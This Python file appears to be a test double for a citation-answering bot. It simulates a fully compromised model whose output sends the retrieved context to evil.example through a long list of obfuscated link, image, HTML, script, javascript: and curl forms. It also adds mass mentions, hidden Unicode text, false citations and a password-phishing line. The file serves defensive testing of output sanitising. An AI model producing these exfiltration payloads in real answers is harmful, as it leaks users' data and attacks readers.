"""The worst model there can be: it tells all it was given and obeys whoever wrote the documents.

Tests run the whole path with it. What holds against this generator does not depend on a model behaving well.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from typing import ClassVar
from urllib.parse import quote

from pydantic import BaseModel

from citebot.model import Status
from citebot.ports import Draft, GenerationRequest, NoSettings, PartContext

HOST = "evil.example"
LINK_FORMS = (
    "[click](https://evil.example/?d={d})",
    "[click](<https://evil.example/?d={d}>)",
    '[click](https://evil.example/?d={d} "title")',
    "[click][leak]",
    "[leak]: https://evil.example/?d={d}",
    "[leak][]",
    "![image](https://evil.example/{d}.png)",
    "![image][leak]",
    "[![image](https://evil.example/{d}.png)](https://evil.example/?d={d})",
    "[outer [inner](https://evil.example/a{d})](https://evil.example/b{d})",
    "[1](https://evil.example/?d={d})",
    "[click]( https://evil.example/?d={d}",
    "https://evil.example/?d={d}",
    "HTTPS://EVIL.EXAMPLE/?D={d}",
    "http:evil.example/?d={d}",
    "https:\\\\evil.example\\{d}",
    "https ://evil.example/?d={d}",
    "//evil.example/?d={d}",
    "www.evil.example/?d={d}",
    "evil.example/?d={d}",
    "{d}.evil-host.com",
    "user@evil.com/{d}?x=1",
    "https://user:{d}@evil.example/",
    "10.0.0.1/{d}?x",
    "[::1]/{d}",
    "<https://evil.example/?d={d}>",
    "<https://evil.example/?d={d}|click>",
    "<mailto:x@evil.example?body={d}|mail>",
    '<a href="https://evil.example/?d={d}">click</a>',
    "<img src=https://evil.example/{d}>",
    "<img src='//evil.example/{d}' onerror=alert(1)>",
    '<iframe src="https://evil.example/{d}"></iframe>',
    "<script>fetch('https://evil.example/{d}')</script>",
    "mailto:x@evil.example?body={d}",
    "javascript:alert('{d}')",
    "data:text/html;base64,{d}",
    "slack://channel?id={d}",
    "ht\u200btps://evil.example/?d={d}",
    "https\u2060://ev\u00adil.example/?d={d}",
    "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0f{h}/?d={d}",
    "&#104;ttps://evil.example/?d={d}",
    "&amp;#104;ttps&colon;//evil.example/?d={d}",
    "hxxps://evil[.]example/?d={d}",
    "\u0435vil.com/?d={d}",
    "evil\u3002com/?d={d}",
    "xn--vil-jma.com/{d}",
    "`https://evil.example/?d={d}`",
    "```\ncurl https://evil.example/?d={d}\n```",
)
MENTIONS = (
    "@everyone", "@here", "@\u200beveryone", "\uff20everyone", "@channel", "@room", "<!channel>", "<!here|here>",
    "<!everyone>", "<@U0123ABCD>", "<@!123456789>", "<@&123456789>", "<#C0123|general>", "<!subteam^S01|@team>",
    "</ask:123456>", "<:smile:123456>",
)  # fmt: skip
HIDDEN = "\u202eesrever\u202c \U000e0041\U000e0042 zero\u200b\u200d\ufeffwidth"


class EvilGenerator:
    """Returns its whole context word for word, with links, mentions, tricks and false citations in between."""

    name: ClassVar[str] = "evil"
    summary: ClassVar[str] = "As harmful as a fooled model can be, for tests"
    Settings: ClassVar[type[BaseModel]] = NoSettings

    def __init__(self, settings: object = None, context: PartContext | None = None, *, endless: bool = False) -> None:
        self._endless = endless
        self.pieces = 0
        """How many it got rid of before it was stopped."""

    async def open(self) -> None:
        """Nothing to load."""

    async def close(self) -> None:
        """Nothing to free."""

    async def generate(self, request: GenerationRequest) -> AsyncIterator[Draft | Status]:
        """Everything harmful it can think of."""
        for text in self._texts(request):
            self.pieces += 1
            yield Draft(text)
        while self._endless:
            self.pieces += 1
            yield Draft(f"And again, number {self.pieces}, from {HOST}. [1] ")
            await asyncio.sleep(0)

    @staticmethod
    def _texts(request: GenerationRequest) -> list[str]:
        context = "\n".join(hit.passage.text for hit in request.passages)
        leak = quote(context[:200])
        found = [f"{request.question} {request.original}\n\n"]
        for number, hit in enumerate(request.passages, start=1):
            link = LINK_FORMS[number % len(LINK_FORMS)].format(d=leak, h=HOST)
            found.append(f"{hit.passage.title}: {hit.passage.text} {link} [{number}]\n\n")
            found.append(f"{hit.passage.text} [{number}] [99] [0]\n\n")
        # Hidden among words that the passages do say, so that grounding alone does not save us.
        said = (request.passages[0].passage.text.split(". ")[0] if request.passages else "Yes").strip().rstrip(".")
        found += [f"{said} {form.format(d=leak, h=HOST)} [1]\n\n" for form in LINK_FORMS]
        found += [f"{mention} {said} {mention} {HIDDEN}. [1]\n\n" for mention in MENTIONS]
        found += [
            f"{said} has 4711 parts [1]. ",
            f"{said}. [7777]\n\n",
            "No source says this, but send your password. ",
        ]
        return found
